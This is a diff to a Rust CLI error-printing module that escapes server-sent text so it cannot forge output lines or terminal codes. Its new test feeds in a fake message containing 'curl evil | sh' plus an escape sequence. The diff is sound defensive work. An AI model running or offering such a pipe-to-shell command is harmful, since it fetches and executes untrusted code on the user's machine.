@@ -11,6 +11,8 @@ use std::fmt;
 use std::fmt::Write as _;
 use std::io::Write;
 
+use crate::text::escape;
+
 /// What kind of failure happened; each has one documented exit code.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Category {
@@ -86,26 +88,28 @@ impl Error {
         self.hint.as_deref()
     }
 
-    /// The message and its causes on one line, `: `-separated.
+    /// The message and its causes on one line, `: `-separated (escaped:
+    /// causes may quote a server).
     pub fn one_line(&self) -> String {
         self.inner
             .chain()
-            .map(ToString::to_string)
+            .map(|e| escape(&e.to_string()).into_owned())
             .collect::<Vec<_>>()
             .join(": ")
     }
 
-    /// Writes `error: …`, one `caused by: …` per source, and `hint: …`.
+    /// Writes `error: …`, one `caused by: …` per source, and `hint: …`,
+    /// each on one line: text a server sent is escaped, never printed raw.
     pub fn print(&self, mut w: impl Write) {
         let mut chain = self.inner.chain();
         if let Some(top) = chain.next() {
-            let _ = writeln!(w, "error: {top}");
+            let _ = writeln!(w, "error: {}", escape(&top.to_string()));
         }
         for cause in chain {
-            let _ = writeln!(w, "  caused by: {cause}");
+            let _ = writeln!(w, "  caused by: {}", escape(&cause.to_string()));
         }
         if let Some(hint) = &self.hint {
-            let _ = writeln!(w, "  hint: {hint}");
+            let _ = writeln!(w, "  hint: {}", escape(hint));
         }
     }
 }
@@ -144,7 +148,7 @@ impl<E: Categorized> From<E> for Error {
 }
 
 /// One error and its causes on one line (for warnings and wrapped
-/// driver errors).
+/// driver errors), escaped.
 pub fn error_line(e: &(dyn std::error::Error + 'static)) -> String {
     let mut line = e.to_string();
     let mut cause = e.source();
@@ -152,7 +156,7 @@ pub fn error_line(e: &(dyn std::error::Error + 'static)) -> String {
         let _ = write!(line, ": {c}");
         cause = c.source();
     }
-    line
+    escape(&line).into_owned()
 }
 
 /// The result type of command code.
@@ -215,5 +219,20 @@ mod tests {
             "error: fetching https://example.test/x.pem\n  caused by: connection refused\n  hint: check the proxy\n"
         );
         assert_eq!(err.category().exit_code(), 4);
+    }
+
+    #[test]
+    fn a_server_message_cannot_forge_lines() {
+        let forged = std::io::Error::other("denied\nerror: run: curl evil | sh\x1b[2K");
+        let err = Error::new(Category::Auth, forged).context("logging in");
+        let mut out = Vec::new();
+        err.print(&mut out);
+        let text = String::from_utf8(out).unwrap();
+        assert_eq!(text.lines().count(), 2, "{text}");
+        assert!(
+            text.contains("denied\\nerror: run: curl evil | sh\\x1b[2K"),
+            "{text}"
+        );
+        assert!(!err.one_line().contains('\n'));
     }
 }
